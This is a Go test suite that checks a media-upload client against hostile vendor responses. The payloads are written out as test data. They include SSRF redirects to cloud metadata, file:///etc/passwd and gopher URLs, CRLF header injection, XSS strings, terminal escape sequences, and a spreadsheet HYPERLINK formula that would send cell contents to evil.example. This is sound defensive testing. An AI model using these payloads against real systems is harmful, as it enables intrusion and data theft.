package contract

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/mediaferry/mediaferry/internal/upload"
)

func TestAHostileVendorDoesNoHarm(t *testing.T) { meetHostile(t, hostileVendors) }

// prepared is a row about one member of the answer to prepare.
func prepared(name string, members string, state upload.State, kind upload.Kind, says string) hostile {
	at := strings.IndexByte(members, '=')
	return hostile{
		name: name, vendor: "trustana", call: "prepare", reply: answer200(trustanaPrepared(members[:at], members[at+1:])),
		state: state, kind: kind, says: says,
	}
}

// sentNowhere is a row about a URL that nothing may be sent to.
func sentNowhere(name, uploadURL, says string) hostile {
	h := prepared(name, "uploadUrl="+uploadURL, upload.StateFailed, upload.KindRejected, "with an invalid uploadUrl: it "+says)
	h.check = func(t *testing.T, _ *world, im *impostor, _ end) {
		require.Zero(t, im.calls["put"])
		require.Empty(t, im.strays)
	}
	return h
}

// garbled is a row about an answer to prepare that nobody can read.
func garbled(name string, r reply) hostile {
	return hostile{name: name, vendor: "trustana", call: "prepare", reply: r, state: upload.StateFailed, kind: upload.KindUnavailable}
}

// refuses400 is a row about the words with which prepare is refused.
func refuses400(name, body, says string) hostile {
	return hostile{
		name: name, vendor: "trustana", call: "prepare", reply: replying(400, body),
		state: upload.StateFailed, kind: upload.KindRejected, says: says,
	}
}

// named is a row about the ID that the vendor gives the medium.
func namedBy(name, fileID string, state upload.State, kind upload.Kind, says string) hostile {
	return hostile{
		name: name, vendor: "trustana", call: "status", reply: answer200(`{"errorCode":0,"data":{"fileId":` + fileID + `}}`),
		state: state, kind: kind, says: says,
	}
}

// waits is a row about how long the vendor asks to wait, once.
func waits(name string, least, most time.Duration, header ...string) hostile {
	return hostile{
		name: name, vendor: "trustana", call: "prepare", times: 1, state: upload.StateReady,
		reply: replying(429, `{"errorCode":429,"message":"slow down"}`, header...),
		check: func(t *testing.T, w *world, _ *impostor, _ end) {
			require.GreaterOrEqual(t, w.took(), least)
			require.LessOrEqual(t, w.took(), most+time.Minute)
		},
	}
}

const (
	ready  = upload.StateReady
	failed = upload.StateFailed
)

const head200 = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"

var hostileVendors = []hostile{
	// How answers come.
	{name: "an answer without an end", vendor: "trustana", call: "prepare", reply: endlessly(chunkedHead, of(chunk(strings.Repeat("[", 4096)), 16)), state: failed, kind: upload.KindRejected, says: "with more than 4 MiB"},
	{name: "a refusal without an end", vendor: "trustana", call: "prepare", reply: endlessly("HTTP/1.1 400 Bad\r\nTransfer-Encoding: chunked\r\n\r\n", of(chunk(strings.Repeat("<", 4096)), 16)), state: failed, kind: upload.KindUnavailable, says: "not in the vendor's format"},
	garbled("an answer that is a bomb of gzip", lazily(func() reply {
		return replying(200, gzipBomb(), "Content-Encoding", "gzip", "Content-Type", "application/json")
	})),
	garbled("an answer that is compressed though nobody asked", replying(200, "\x1f\x8b\x08\x00", "Content-Encoding", "gzip")),
	garbled("an answer nested a million deep", answer200(`{"data":`+strings.Repeat("[", 1_000_000)+strings.Repeat("]", 1_000_000)+"}")),
	garbled("objects nested a hundred thousand deep", answer200(strings.Repeat(`{"data":`, 100_000)+"1"+strings.Repeat("}", 100_000))),
	garbled("three hundred headers of 60 kB", endlessly("HTTP/1.1 200 OK\r\n", of("X-A: "+strings.Repeat("a", 60_000)+"\r\n", 1))),
	garbled("a header without an end", endlessly("HTTP/1.1 200 OK\r\nX-A: ", of("a", 4096))),
	garbled("a status line without an end", endlessly("HTTP/1.1 200 ", of("O", 4096))),
	garbled("interim answers without an end", endlessly("", of("HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n", 64))),
	garbled("a switch to another protocol that nobody asked for", rawly("HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\nx")),
	garbled("a status that is no number", rawly("HTTP/1.1 abc OK\r\n\r\n{}")),
	garbled("a status of four digits", rawly("HTTP/1.1 2000 OK\r\nContent-Length: 2\r\n\r\n{}")),
	garbled("a negative Content-Length", rawly(head200+"Content-Length: -5\r\n\r\n{}")),
	garbled("two Content-Lengths that differ", rawly(head200+"Content-Length: 2\r\nContent-Length: 20\r\n\r\n{}")),
	garbled("a Content-Length above what is sent", rawly(head200+"Content-Length: 1000\r\n\r\n{")),
	garbled("a Content-Length below what is sent", rawly(head200+"Content-Length: 5\r\n\r\n"+trustanaPrepared())),
	garbled("a Content-Length of an exabyte", rawly(head200+"Content-Length: 9223372036854775807\r\n\r\n{")),
	garbled("a chunk longer than can be counted", rawly(chunkedHead+"FFFFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n")),
	garbled("a chunk of negative length", rawly(chunkedHead+"-1\r\n{}\r\n0\r\n\r\n")),
	garbled("a chunk extension without an end", endlessly(chunkedHead+"1;", of("x", 4096))),
	garbled("chunks of one byte with extensions around each", endlessly(chunkedHead, of("1;"+strings.Repeat("e", 3000)+"\r\n \r\n", 1))),
	garbled("a body that is cut within a chunk", rawly(chunkedHead+"ff\r\n{")),
	garbled("trailers without an end", endlessly(chunkedHead+"2\r\n{}\r\n0\r\n", of("X-T: "+strings.Repeat("t", 4000)+"\r\n", 1))),
	garbled("another transfer encoding", rawly("HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n")),
	garbled("no HTTP at all", rawly("SSH-2.0-OpenSSH_9.0\r\n")),
	garbled("HTTP/2 that nobody agreed on", rawly("\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x64")),
	garbled("a header whose name has a line break", rawly("HTTP/1.1 200 OK\r\nX A\r\n: b\r\nContent-Length: 2\r\n\r\n{}")),
	garbled("a redirect to the metadata of a cloud", replying(307, "", "Location", "http://169.254.169.254/latest/meta-data/")),
	{
		name: "a redirect to itself with a cookie", vendor: "trustana", call: "prepare", reply: replying(307, "", "Location", "$/upload/prepare", "Set-Cookie", "a=b"),
		state: failed, kind: upload.KindUnavailable,
		check: func(t *testing.T, _ *world, im *impostor, _ end) {
			for _, r := range im.requests {
				require.Empty(t, r.Cookies())
			}
		},
	},
	{name: "a cookie, which is not sent back", vendor: "trustana", call: "prepare", reply: replying(200, trustanaPrepared(), "Set-Cookie", "session=1; Path=/"), state: ready, check: func(t *testing.T, _ *world, im *impostor, _ end) {
		for _, r := range im.requests {
			require.Empty(t, r.Cookies())
		}
	}},
	garbled("an answer without a body", replying(204, "")),
	garbled("nothing where nothing is new", replying(304, "")),
	{name: "a success that is a page", vendor: "trustana", call: "prepare", reply: replying(200, "<html><script>alert(1)</script>", "Content-Type", "text/html"), state: failed, kind: upload.KindUnavailable},

	// What stands in them.
	garbled("UTF-16", answer200("\xff\xfe{\x00\"\x00d\x00\"\x00:\x001\x00}\x00")),
	garbled("JSON with more behind it", answer200(trustanaPrepared()+"{}")),
	garbled("JSON with NUL", answer200("{\x00}")),
	garbled("NaN, which JSON does not have", answer200(trustanaPrepared("expiresIn", "NaN"))),
	garbled("a list instead of an object", answer200(`[{"errorCode":0}]`)),
	{name: "a byte order mark before the answer", vendor: "trustana", call: "prepare", reply: answer200("\ufeff" + trustanaPrepared()), state: ready},
	{name: "invalid UTF-8 in a field that is not needed", vendor: "trustana", call: "prepare", reply: answer200(trustanaPrepared("note", "\"\xc3\x28\xff\"")), state: ready},
	{name: "an answer that is half blanks", vendor: "trustana", call: "prepare", reply: answer200(strings.Repeat(" ", 2<<20) + trustanaPrepared()), state: ready},
	{name: "a member that is there ten thousand times", vendor: "trustana", call: "prepare", reply: answer200(strings.Replace(trustanaPrepared(), `"data":{`, `"data":{`+strings.Repeat(`"uploadId":"x",`, 10_000), 1)), state: ready},
	{name: "a second uploadUrl that is a file", vendor: "trustana", call: "prepare", reply: answer200(strings.Replace(trustanaPrepared(), `"expiresIn"`, `"uploadUrl":"file:///etc/passwd","expiresIn"`, 1)), state: failed, kind: upload.KindRejected, says: "is not an https: URL"},
	{name: "the same member in capitals that is a file", vendor: "trustana", call: "prepare", reply: answer200(strings.Replace(trustanaPrepared(), `"expiresIn"`, `"UPLOADURL":"file:///etc/passwd","expiresIn"`, 1)), state: failed, kind: upload.KindRejected, says: "is not an https: URL"},
	{name: "types that are all wrong", vendor: "trustana", call: "prepare", reply: answer200(`{"errorCode":"x","data":[1,2]}`), state: failed, kind: upload.KindRejected, says: "without uploadUrl, uploadId"},
	{name: "an error code beyond any number", vendor: "trustana", call: "prepare", reply: answer200(`{"errorCode":1e999,"data":{}}`), state: failed, kind: upload.KindRejected},
	{name: "an error code that is negative", vendor: "trustana", call: "prepare", reply: answer200(`{"errorCode":-2147483648}`), state: failed, kind: upload.KindUnavailable},
	prepared("an uploadId that is an object", `uploadId={"a":1}`, failed, upload.KindRejected, "without uploadId"),
	prepared("an uploadId that is null", `uploadId=null`, failed, upload.KindRejected, "without uploadId"),
	prepared("an uploadId that leads elsewhere", `uploadId="../../x?y#z"`, ready, "", ""),
	prepared("an uploadId with a line break", `uploadId="u\r\nX-Evil: 1"`, ready, "", ""),
	prepared("an uploadUrl that is a number", `uploadUrl=7`, failed, upload.KindRejected, "is not an https: URL"),
	prepared("an uploadUrl that is a list", `uploadUrl=["https://h/"]`, failed, upload.KindRejected, "without uploadUrl"),
	prepared("an uploadUrl that is true", `uploadUrl=true`, failed, upload.KindRejected, "is not an https: URL"),
	sentNowhere("an uploadUrl that is a file", `"file:///etc/passwd"`, "is not an https: URL"),
	sentNowhere("an uploadUrl of gopher", `"gopher://127.0.0.1:70/x"`, "is not an https: URL"),
	sentNowhere("an uploadUrl of FTP", `"ftp://127.0.0.1/x"`, "is not an https: URL"),
	sentNowhere("an uploadUrl that is a script", `"javascript:alert(1)"`, "is not an https: URL"),
	sentNowhere("an uploadUrl that is data", `"data:image/png;base64,AA=="`, "is not an https: URL"),
	sentNowhere("an uploadUrl without a scheme", `"//127.0.0.1/x"`, "is not an https: URL"),
	sentNowhere("an uploadUrl without a host", `"http:///x"`, "has no host"),
	sentNowhere("an uploadUrl with a header in it", `"$/put\r\nX-Evil: 1"`, "is not a URL"),
	sentNowhere("an uploadUrl with NUL", `"$/put\u0000"`, "is not a URL"),
	sentNowhere("an uploadUrl with a user name", `"http://user:pass@127.0.0.1:1/put"`, "contains a user name"),
	sentNowhere("an uploadUrl whose address is half written", `"http://[::1/put"`, "is not a URL"),
	sentNowhere("an uploadUrl whose port is no number", `"http://127.0.0.1:80a/put"`, "is not a URL"),
	prepared("an uploadUrl whose port does not exist", `uploadUrl="http://127.0.0.1:99999/put"`, failed, upload.KindUnavailable, ""),
	prepared("a lifetime below zero", "expiresIn=-99999999", ready, "", ""),
	prepared("a lifetime of zero", "expiresIn=0", ready, "", ""),
	prepared("a lifetime of 292 years of nanoseconds", "expiresIn=9223372036854775807", ready, "", ""),
	prepared("a lifetime beyond any number", "expiresIn=1e999", ready, "", ""),
	prepared("a lifetime that is no number", `expiresIn="NaN"`, ready, "", ""),
	prepared("a URL that says it is signed for ever", `uploadUrl="$/put?X-Amz-Date=20260301T120000Z&X-Amz-Expires=99999999999999999999&X-Amz-Signature=`+plantedSignature+`"`, ready, "", ""),
	prepared("a URL that says it is signed for minus a day", `uploadUrl="$/put?X-Amz-Date=20260301T120000Z&X-Amz-Expires=-86400&X-Amz-Signature=`+plantedSignature+`"`, ready, "", ""),
	noMediaURL("a finalUrl that is a script", `"javascript:alert(1)"`),
	noMediaURL("a finalUrl with a user name", `"https://user:pass@cdn.example/x"`),
	noMediaURL("a finalUrl that is signed", `"https://cdn.example/x?X-Amz-Signature=`+plantedSignature+`"`),
	{name: "a finalUrl with a mark that turns writing around", vendor: "trustana", call: "prepare", reply: answer200(trustanaPrepared("finalUrl", `"https://cdn.example/\u202egnp.exe"`)), state: ready, check: func(t *testing.T, _ *world, _ *impostor, ended end) {
		require.Equal(t, "https://cdn.example/%E2%80%AEgnp.exe", string(ended.result.MediaURL))
	}},

	// Words.
	refuses400("a refusal in colours and titles", `{"errorCode":400,"message":"\u001b]0;pwned\u0007\u001b[31mred \u202egnp.exe \u009b31m <script>alert(1)</script> =cmd()"}`, "red gnp.exe <script>"),
	refuses400("a refusal of three megabytes", `{"errorCode":400,"message":"`+strings.Repeat("no ", 1<<20)+`"}`, "no no"),
	refuses400("a refusal that is a list of a hundred thousand", `{"errorCode":400,"message":[`+strings.Repeat(`"no",`, 100_000)+`"no"]}`, "no; no"),
	refuses400("a refusal with a signed URL", `{"errorCode":400,"message":"see https://h/k?X-Amz-Signature=`+plantedSignature+`"}`, "see https://h/k"),
	{
		name: "a refusal that repeats the key in many forms", vendor: "trustana", call: "prepare", state: failed, kind: upload.KindRejected,
		reply: func(out http.ResponseWriter, r *http.Request) {
			key := r.Header.Get("X-Api-Key")
			var percent strings.Builder
			for _, c := range []byte(key) {
				fmt.Fprintf(&percent, "%%%02x", c)
			}
			replying(400, fmt.Sprintf(`{"errorCode":400,"message":"key %s; base64 %s; in capitals %s; encoded %s"}`,
				key, base64.StdEncoding.EncodeToString([]byte(key)), strings.ToUpper(key), percent.String()))(out, r)
		},
		check: func(t *testing.T, w *world, _ *impostor, ended end) {
			key := w.used()[0]
			for _, form := range []string{key, strings.ToUpper(key), base64.StdEncoding.EncodeToString([]byte(key))} {
				require.NotContains(t, ended.result.Error.Message, form)
			}
		},
	},
	{name: "a request ID with commands for terminals", vendor: "trustana", call: "prepare", reply: rawly("HTTP/1.1 400 Bad\r\nX-Request-Id: \x1b]0;p\x07\u202eid\r\nContent-Length: 2\r\n\r\n{}"), state: failed, kind: upload.KindUnavailable},
	{name: "a request ID of 100 kB", vendor: "trustana", call: "prepare", reply: replying(400, `{"errorCode":400}`, "X-Request-Id", strings.Repeat("i", 100_000)), state: failed, kind: upload.KindRejected},
	{name: "a server with a name of 100 kB", vendor: "trustana", call: "prepare", reply: replying(502, "<html>", "Server", strings.Repeat("s", 100_000), "Via", strings.Repeat("v", 50_000)), state: failed, kind: upload.KindUnavailable},
	namedBy("a media ID that is a formula", `"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"`, ready, "", ""),
	namedBy("a media ID with commands for terminals", `"ID\u001b]0;pwn\u0007\u202egnp"`, ready, "", ""),
	namedBy("a media ID that is HTML", `"<img src=x onerror=alert(1)>"`, ready, "", ""),
	namedBy("a media ID of a million characters", `"`+strings.Repeat("x", 1_000_000)+`"`, failed, upload.KindRejected, ""),
	namedBy("a media ID of controls alone", `"\u0000\u0007\u001b"`, failed, upload.KindRejected, ""),
	namedBy("a media ID that is an object", `{"a":"b"}`, failed, upload.KindRejected, "without fileId"),
	namedBy("a media ID of ten thousand digits", strings.Repeat("9", 10_000), failed, upload.KindRejected, ""),
	namedBy("a media ID and a size that is negative", `"F1","size":-1`, failed, upload.KindCorrupt, ""),
	namedBy("a media ID and a size beyond any number", `"F1","size":1e999`, ready, "", ""),
	namedBy("a media ID and a date that is none", `"F1","createdAt":"99999-99-99"`, ready, "", ""),

	// Waits.
	waits("a wait of three thousand years", time.Hour, time.Hour, "Retry-After", "99999999999"),
	waits("a wait below zero", 0, time.Minute, "Retry-After", "-86400"),
	waits("a wait that is no number", 0, time.Minute, "Retry-After", "NaN"),
	waits("a wait without an end", time.Hour, time.Hour, "Retry-After", "Inf"),
	waits("a wait that overflows", time.Hour, time.Hour, "Retry-After", "1e308"),
	waits("a wait until the year 9999", time.Hour, time.Hour, "Retry-After", "Fri, 31 Dec 9999 23:59:59 GMT"),
	waits("a wait until long ago", 0, time.Minute, "Retry-After", "Thu, 01 Jan 1970 00:00:00 GMT"),
	waits("a wait in words", 0, time.Minute, "Retry-After", strings.Repeat("soon ", 10_000)),
	waits("a window that never begins anew", time.Hour, time.Hour, "X-RateLimit-Reset", "99999999999999999999999"),
	waits("a clock that is of the year 1", 0, time.Hour, "Retry-After", "5", "Date", "Mon, 01 Jan 0001 00:00:00 GMT"),

	// Other vendors.
	{name: "a form's field with a line break and quotes", vendor: "sitoo", call: "upload-url", reply: answer200(sitooGrant("fields", `{"key":"k","a\"\r\nX-Evil: 1\r\n\r\n":"b\r\n--x"}`)), state: ready, check: func(t *testing.T, _ *world, im *impostor, _ end) {
		for _, r := range im.requests {
			require.Empty(t, r.Header.Get("X-Evil"))
		}
	}},
	{name: "fields of a form that are a list", vendor: "sitoo", call: "upload-url", reply: answer200(sitooGrant("fields", `["key"]`)), state: failed, kind: upload.KindRejected, says: "without fields.key"},
	{name: "a form that ends in the year 275760", vendor: "sitoo", call: "upload-url", reply: answer200(sitooGrant("upload_expires_at", "8640000000000000")), state: ready},
	{name: "a form of fifty thousand fields", vendor: "sitoo", call: "upload-url", reply: lazily(func() reply { return answer200(sitooGrant("fields", manyFields(50_000))) }), state: failed, kind: upload.KindRejected, says: "at most 1048576 can be kept"},
	{name: "a file ID that leads elsewhere", vendor: "sitoo", call: "upload-url", reply: answer200(sitooGrant("file_id", `"../../admin?x=1"`)), state: ready, check: func(t *testing.T, _ *world, im *impostor, _ end) {
		require.Empty(t, im.strays)
	}},
	{name: "a status that nobody knows, for ever", vendor: "sitoo", call: "get", reply: answer200(`{"status":"\u001b[31mexploded"}`), state: failed, kind: upload.KindTimeout},
	{name: "a status that is an object", vendor: "sitoo", call: "get", reply: answer200(`{"status":{"ready":true}}`), state: failed, kind: upload.KindRejected, says: "without status"},
	{name: "a host that is a file", vendor: "trustoo", call: "policy", reply: answer200(trustooPolicy("host", `"file:///etc"`)), state: failed, kind: upload.KindRejected, says: "invalid host"},
	{name: "a folder that leads elsewhere", vendor: "trustoo", call: "policy", reply: answer200(trustooPolicy("dir", `"../../\r\n"`)), state: ready},
	{name: "a policy that expired before it was made", vendor: "trustoo", call: "policy", reply: answer200(trustooPolicy("expire", `"-1"`)), state: ready},
	{name: "a code that is no number", vendor: "trustoo", call: "policy", reply: answer200(`{"code":{"x":1},"data":null}`), state: failed, kind: upload.KindRejected},
	{name: "an access token with a header in it", vendor: "truvideo", call: "login", reply: answer200(`{"accessToken":"t\r\nX-Evil: 1"}`), state: failed, kind: upload.KindRejected, says: "a character that no header can hold", check: func(t *testing.T, _ *world, im *impostor, _ end) {
		for _, r := range im.requests {
			require.Empty(t, r.Header.Get("X-Evil"))
		}
	}},
	{name: "an access token of three megabytes", vendor: "truvideo", call: "login", reply: answer200(`{"accessToken":"` + strings.Repeat("t", 3<<20) + `"}`), state: failed, kind: upload.KindRejected, says: "at most 32768 can be sent"},
	{name: "a token that says that it lives for ever", vendor: "truvideo", call: "login", reply: answer200(`{"accessToken":"e30.` + base64.RawURLEncoding.EncodeToString([]byte(`{"iat":-1e300,"exp":1e300}`)) + `.x"}`), state: ready},
	{name: "parts with numbers beyond any count", vendor: "truvideo", call: "start", reply: replying(201, truvideoStarted("parts", `[{"partNumber":9223372036854775807,"presignedUrl":"$/part"},{"partNumber":-1,"presignedUrl":"$/part"},{"partNumber":1,"presignedUrl":"$/part"}]`)), state: ready},
	{name: "twenty thousand parts for a session of one", vendor: "truvideo", call: "start", reply: lazily(func() reply { return replying(201, truvideoStarted("parts", manyParts(20_000))) }), state: failed, kind: upload.KindRejected, says: "at most 1048576 can be kept"},
	{name: "a part that is sent to a file", vendor: "truvideo", call: "start", reply: replying(201, truvideoStarted("parts", `[{"partNumber":1,"presignedUrl":"file:///etc/passwd"}]`)), state: failed, kind: upload.KindRejected, says: "invalid presignedUrl"},
	{name: "a session that leads elsewhere", vendor: "truvideo", call: "start", reply: replying(201, truvideoStarted("uploadId", `"../../x?y#z"`)), state: ready},
	{name: "a completion that is a page", vendor: "truvideo", call: "complete", reply: replying(202, "<html>", "Content-Type", "text/html"), state: ready},
	{name: "a failure that explains itself in colours", vendor: "truvideo", call: "status", reply: answer200(`{"status":"FAILED","failureReason":"\u001b[31mred\u202e` + strings.Repeat("x", 100_000) + `"}`), state: failed, kind: upload.KindRejected, says: "red"},
	{name: "pages of images without an end", vendor: "closient", call: "list", reply: answer200(`{"data":[{"id":"a"}],"pagination":{"has_next":true}}`), state: failed, kind: upload.KindRejected, says: "pages"},
	{name: "a limit of no requests in a hundred years", vendor: "closient", call: "list", reply: replying(200, `{"data":[],"pagination":{}}`, "RateLimit-Policy", `0;w=3155760000, -5;w=60, 9223372036854775807;w=1`), state: ready},
	{name: "a window that ends in a hundred years", vendor: "closient", call: "list", times: 1, reply: replying(200, `{"data":[],"pagination":{}}`, "RateLimit-Remaining", "0", "RateLimit-Reset", "3155760000"), state: ready, check: tookADay},
	{name: "a window that ends beyond any duration", vendor: "closient", call: "list", times: 1, reply: replying(200, `{"data":[],"pagination":{}}`, "RateLimit-Remaining", "0", "RateLimit-Reset", "9223372036854775807"), state: ready, check: tookADay},
	{name: "an image whose ID is HTML with a formula", vendor: "closient", call: "post", reply: replying(201, `{"id":"=<script>\u202e\u0007","image_url":"javascript:alert(1)"}`), state: ready},
}

// tookADay: the longest window that a vendor has is waited for, and no longer.
func tookADay(t *testing.T, w *world, _ *impostor, _ end) {
	require.GreaterOrEqual(t, w.took(), 24*time.Hour)
	require.Less(t, w.took(), 25*time.Hour)
}

// noMediaURL is a row about an address that people would follow.
func noMediaURL(name, finalURL string) hostile {
	h := prepared(name, "finalUrl="+finalURL, ready, "", "")
	h.check = func(t *testing.T, _ *world, _ *impostor, ended end) { require.Empty(t, ended.result.MediaURL) }
	return h
}

func manyFields(n int) string {
	var b strings.Builder
	b.WriteString(`{"key":"k"`)
	for i := range n {
		fmt.Fprintf(&b, `,"field-%d":"%s"`, i, strings.Repeat("v", 40))
	}
	return b.String() + "}"
}

func manyParts(n int) string {
	var b strings.Builder
	b.WriteString(`[{"partNumber":1,"presignedUrl":"$/part"}`)
	for i := range n {
		fmt.Fprintf(&b, `,{"partNumber":%d,"presignedUrl":"$/part?%s"}`, i+2, strings.Repeat("v", 100))
	}
	return b.String() + "]"
}
